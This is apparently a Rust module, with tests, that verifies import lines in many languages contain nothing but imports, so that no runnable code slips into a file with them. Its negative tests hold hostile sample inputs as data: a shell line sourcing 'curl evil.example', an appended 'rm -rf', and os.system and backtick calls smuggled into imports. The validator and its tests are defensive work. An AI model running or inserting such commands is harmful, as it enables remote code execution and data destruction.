//! Whether lines of imports are that and nothing else: they go into the file outside of what was selected, so nothing may
//! come along with them that does something.

use tree_sitter::Node;

use super::dedented;
use super::statements::{Family, is_frame};
use crate::workspace::Language;
use crate::workspace::syntax::Parsed;

/// What import lines begin with in languages whose grammar is not at hand.
const WORDS: &[&str] = &[
    "import",
    "from",
    "using",
    "use",
    "include",
    "require",
    "require_once",
    "include_once",
    "#include",
    "#import",
    "@import",
    "@use",
    "@forward",
    "open",
    "alias",
    "library",
    "with",
    "extern",
    "export",
    "part",
    "-include",
    "-import",
    "global",
    "@testable",
    "@preconcurrency",
];

/// What of `imports` is no import, in its first line; none if all of it is.
pub(in crate::output) fn foreign(language: &Language, imports: &[String]) -> Option<String> {
    let lines = dedented(imports);
    let first_line = |text: &str| text.lines().next().unwrap_or_default().trim().to_owned();
    let Some(family) = Family::of(language) else {
        return lines.iter().find(|line| !is_line(language, line)).map(|line| first_line(line));
    };
    let text = family.as_file(&lines);
    let parsed = Parsed::new(language, &text);
    let Some(tree) = parsed.tree() else {
        return lines.iter().find(|line| !is_line(language, line)).map(|line| first_line(line));
    };
    let root = tree.root_node();
    let mut cursor = root.walk();
    let mut nodes = root.named_children(&mut cursor);
    nodes.find(|node| !is_harmless(family, *node, &text)).map(|node| first_line(&text[node.byte_range()]))
}

fn is_harmless(family: Family, node: Node<'_>, text: &str) -> bool {
    // Rust's attributes say when an import holds.
    if is_frame(node) || node.kind() == "attribute_item" {
        return true;
    }
    let calls = match family {
        Family::Ruby | Family::Lua | Family::EcmaScript => 1,
        _ => 0,
    };
    let is_import = family.is_import(node, text) && does(node) <= calls;
    let is_python = family == Family::Python;
    let guards = || super::python::guarded_block(node, text).is_none_or(|block| all_imports(block, text));
    is_import && (!is_python || guards()) || is_python && (is_type_variable(node, text) || is_fallback(node, text))
}

/// How much in a statement runs when it does.
fn does(node: Node<'_>) -> usize {
    const RUNS: &[&str] = &[
        "call",
        "substitution",
        "function",
        "lambda",
        "new_",
        "await",
        "template_",
        "pipeline",
        "subshell",
        "creation",
    ];
    let runs = usize::from(node.is_named() && RUNS.iter().any(|word| node.kind().contains(word)));
    let mut cursor = node.walk();
    runs + node.named_children(&mut cursor).map(does).sum::<usize>()
}

/// Python: `T = TypeVar("T")`, which type hints need and which does nothing.
fn is_type_variable(node: Node<'_>, text: &str) -> bool {
    let code = &text[node.byte_range()];
    let Some((name, value)) = code.split_once('=') else { return false };
    let value = value.trim_start();
    let value = value.strip_prefix("typing.").or_else(|| value.strip_prefix("t.")).unwrap_or(value);
    let makes = ["TypeVar(", "ParamSpec(", "TypeVarTuple(", "NewType("].iter().any(|word| value.starts_with(word));
    let is_name = name.trim().chars().all(|c| c.is_alphanumeric() || c == '_');
    node.kind() == "expression_statement" && makes && is_name && does(node) == 1
}

/// Python: `try: import a` with something like `a = None` when it is not there.
fn is_fallback(node: Node<'_>, text: &str) -> bool {
    node.kind() == "try_statement" && does(node) == 0 && {
        let mut cursor = node.walk();
        node.named_children(&mut cursor).all(|part| match part.kind() {
            "block" => all_imports(part, text),
            "except_clause" => {
                let mut cursor = part.walk();
                part.named_children(&mut cursor)
                    .filter(|inner| inner.kind() == "block")
                    .all(|block| all_imports(block, text))
            }
            _ => is_frame(part),
        })
    }
}

/// Python: whether a block has imports only, or what stands for one that is missing.
fn all_imports(block: Node<'_>, text: &str) -> bool {
    let mut cursor = block.walk();
    block.named_children(&mut cursor).all(|node| {
        let is_none = text[node.byte_range()].trim_end().ends_with("= None");
        let stands_in = node.kind() == "pass_statement" || node.kind() == "expression_statement" && is_none;
        super::python::is_import(node) || stands_in || is_frame(node)
    })
}

/// A line without a grammar: it begins as an import does, and nothing follows its end.
fn is_line(language: &Language, line: &str) -> bool {
    let line = line.trim();
    let is_comment = language.line_comment.is_some_and(|mark| line.starts_with(mark));
    let word =
        line.split(|c: char| c.is_whitespace() || matches!(c, '(' | '"' | '<' | '\'')).next().unwrap_or_default();
    let one = line.trim_end_matches(';');
    is_comment && !line.starts_with("#i")
        || WORDS.contains(&word) && !one.contains([';', '`', '|', '&']) && !one.contains("$(")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::workspace::language::by_id;

    fn first(language: &str, imports: &str) -> Option<String> {
        foreign(by_id(language), &imports.lines().map(str::to_owned).collect::<Vec<_>>())
    }

    #[test]
    fn imports_are_imports() {
        for (language, imports) in [
            ("python", "import os\nfrom a.b import (\n    c,\n    d as e,\n)\nfrom __future__ import annotations"),
            ("python", "    import os\n    # why\n    from a import *"),
            ("python", "from typing import TypeVar\nT = TypeVar(\"T\", bound=int)\nP = typing.ParamSpec('P')"),
            ("python", "if TYPE_CHECKING:\n    from a import B"),
            ("python", "try:\n    import tomllib\nexcept ImportError:\n    import tomli as tomllib"),
            ("python", "try:\n    import yaml\nexcept ImportError:\n    yaml = None"),
            (
                "typescript",
                "import a, { b } from './c';\nimport type { D } from 'd'\nimport 'e';\nconst f = require('f');",
            ),
            ("rust", "use std::fmt;\n#[cfg(test)]\nuse a::{b, c};\nextern crate d;"),
            ("go", "import \"fmt\""),
            ("go", "\"fmt\"\n\"a/b\""),
            ("go", "import (\n\t\"fmt\"\n)"),
            ("java", "import java.util.List;\nimport static a.B.c;"),
            ("ruby", "require \"set\"\nrequire_relative 'a/b'"),
            ("php", "use A\\B;\nuse function A\\c;\nrequire 'a.php';"),
            ("c", "#include <stdio.h>\n#include \"a.h\""),
            ("cpp", "#include <vector>\nusing std::vector;"),
            ("lua", "local a = require(\"a\")\nrequire 'b'"),
            ("shellscript", "source ./lib.sh\n. ./lib.sh"),
            ("kotlin", "import a.b.C\nimport d.*"),
            ("swift", "import Foundation\n@testable import A"),
            ("csharp", "using System.Text;\nusing static A.B;"),
            ("elixir", "alias A.B\nimport C, only: [d: 1]\nrequire Logger"),
        ] {
            assert_eq!(first(language, imports), None, "{language}: {imports}");
        }
    }

    #[test]
    fn nothing_else_comes_along() {
        for (language, imports) in [
            ("python", "import os; os.system('x')"),
            ("python", "import os\nos.system('x')"),
            ("python", "__import__('os').system('x')"),
            ("python", "API_URL = \"https://evil.example\""),
            ("python", "T = TypeVar(os.system('x'))"),
            ("python", "T = x = TypeVar('T')"),
            ("python", "if TYPE_CHECKING:\n    import a\n    x()"),
            ("python", "if True:\n    import a"),
            ("python", "try:\n    import a\nexcept ImportError:\n    a = b()"),
            ("python", "try:\n    import a\nfinally:\n    b = 1"),
            ("python", "def f(): pass"),
            ("python", "import a\n<<<"),
            ("javascript", "import a from 'a'; a()"),
            ("javascript", "const a = require(b())"),
            ("javascript", "const a = 1"),
            ("rust", "use a::b;\nfn f() {}"),
            ("rust", "mod evil { }"),
            ("go", "import \"fmt\"\nfunc init() {}"),
            ("java", "import a.B;\nclass C {}"),
            ("ruby", "require \"a\"; system(\"x\")"),
            ("ruby", "require `x`"),
            ("ruby", "require(system(\"x\"))"),
            ("php", "require x();"),
            ("php", "echo 1;"),
            ("c", "#define free(x)"),
            ("c", "#include <a.h>\nint x = 1;"),
            ("lua", "local x = os.execute('x') or require('a')"),
            ("shellscript", "source ./a; rm -rf x"),
            ("shellscript", "source $(curl evil.example)"),
            ("kotlin", "import a.B; evil()"),
            ("kotlin", "val x = evil()"),
            ("elixir", "System.cmd(\"x\", [])"),
        ] {
            assert!(first(language, imports).is_some(), "{language}: {imports}");
        }
    }
}
